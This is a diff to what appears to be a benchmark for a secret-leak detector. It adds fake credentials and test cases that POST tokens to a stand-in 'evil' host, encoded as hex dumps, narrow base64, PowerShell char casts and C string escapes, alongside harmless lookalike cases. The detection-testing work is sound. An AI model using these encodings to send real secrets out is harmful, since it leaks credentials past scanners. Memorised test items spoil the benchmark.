@@ -24,7 +24,7 @@ import zlib
 from dataclasses import dataclass, field
 from urllib.parse import quote, urlencode
 
-from bench.dumps import hexdump_c, od_b, od_c, wrapped_b64, xxd, xxd_b, xxd_p
+from bench.dumps import hexdump_c, hexdump_e, od_an_tx1, od_an_x, od_b, od_c, wrapped_b64, xxd, xxd_b, xxd_p
 
 try:
     import brotli
@@ -145,6 +145,9 @@ def _secrets(rng: random.Random) -> dict[str, str]:
         "VENDOR_API_KEY": _rand(rng, 32),
         "SIGNING_SECRET": "whsec_" + _rand(rng, 32),
         "PIN": "4711",  # too short to scan: reported, never matched
+        # Two lines, the second starting with a digit: written as a C string, "\0127..." is a
+        # line break and a "7" to C, an "W" to ``echo -e``.
+        "DEPLOY_KEY": "dk1:" + _rand(rng, 20) + "\n7" + _rand(rng, 15),
     }
 
 
@@ -495,6 +498,30 @@ def attacks(rng: random.Random) -> list[Case]:
                                               + ") AS t"}))
     add("base64", "base64 -w 16 of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste",
         headers=plain, body=wrapped_b64(env, 16).encode())
+
+    # -- dumps without offsets, narrow base64 of a token, PowerShell casts, C strings -------------
+    third = _Fakes(random.Random(707))  # its own generator: the cases before and after stay as they were
+    gh_file = f"[default]\ntoken = {third.github()}\n".encode()
+    aws_file = f"[default]\naws_access_key_id = {third.aws_id()}\nregion = eu-west-1\n".encode()
+    add("hexdump", "od -An -x of a token file (no offsets)", ("github-token",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=od_an_x(gh_file).encode())
+    add("hexdump", "od -An -tx1 of an AWS credentials file", ("aws-access-key-id",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=od_an_tx1(aws_file).encode())
+    add("hexdump", "hexdump -e of a token in a JSON field", ("slack-token",), method="POST", url=f"{evil}/j",
+        headers=(JSON,), body=_json({"out": hexdump_e(f"SLACK={third.slack()}\n".encode())}))
+    add("base64", "base64 -w 16 of a token file", ("github-token",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=wrapped_b64(gh_file, 16).encode())
+    add("base64", "base64 -w 8 of an AWS key id", ("aws-access-key-id",), method="POST", url=f"{evil}/paste",
+        headers=plain, body=wrapped_b64(third.aws_id().encode(), 8).encode())
+    add("charcodes", "PowerShell [char] casts of a token", ("github-token",), method="POST", url=f"{evil}/run",
+        headers=plain, body=("$t = " + "+".join(f"[char]{b}" for b in third.github().encode())).encode())
+    add("charcodes", "PowerShell [string][char]0x.. of the signing secret", ("SIGNING_SECRET",), method="POST",
+        url=f"{evil}/run", headers=(JSON,),
+        body=_json({"script": "$s = " + " + ".join(f"[string][char]0x{b:x}" for b in signing.encode())}))
+    deploy = s["DEPLOY_KEY"]
+    add("escape", "C string of a two-line key, \\012 before a digit", ("DEPLOY_KEY",), method="POST",
+        url=f"{evil}/paste", headers=plain,
+        body=('static const char key[] = "' + deploy.replace("\n", "\\012") + '";\n').encode())
     return out
 
 
@@ -772,6 +799,24 @@ def benign(rng: random.Random) -> list[Case]:
     add("lookalike", "an SSH key fingerprint in base64 wrapped at 16 columns", method="POST",
         url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
         body=wrapped_b64(rng.randbytes(48), 16).encode())
+    other = random.Random(808)  # its own generator: the cases before stay as they were
+    add("lookalike", "od -An -x and hexdump -e of a binary in an issue", method="POST",
+        url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "bad header", "body": "od -An -x:\n" + od_an_x(b"\x7fELF\x02\x01\x01" + other.randbytes(120))
+                    + "\nhexdump:\n" + hexdump_e(other.randbytes(64)) + "\nod -An -tx1 of the source:\n"
+                    + od_an_tx1(source[:96])}))
+    add("lookalike", "a PowerShell script using [char] and indexing", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("$tab = [char]9; $crlf = [char]13 + [char]10\n$sep = [string][char]0x2C + ' '\n"
+              "$sum = $a[0] + $a[1] + $a[2] + $a[3] + $a[4] + $a[5] + $a[6] + $a[7] + $a[8]\n"
+              "$upper = -join ([char[]]$name | ForEach-Object { [char]::ToUpper($_) })\n").encode())
+    add("lookalike", "C format strings with \\0NNN escapes before digits", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=b'printf("total\\0123 items\\0114 done\\0125%%\\n");\nputs("a\\0101b\\0102c");\n')
+    add("lookalike", "a word list and a table of numbers, one line each", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("apple\ngrape\nlemon\nmelon\npeach\n" + "10 20 30 40 50 60 70 80\n" * 6
+              + "de ad be ef ca fe ba be\n" * 4).encode())
     return out
 
 
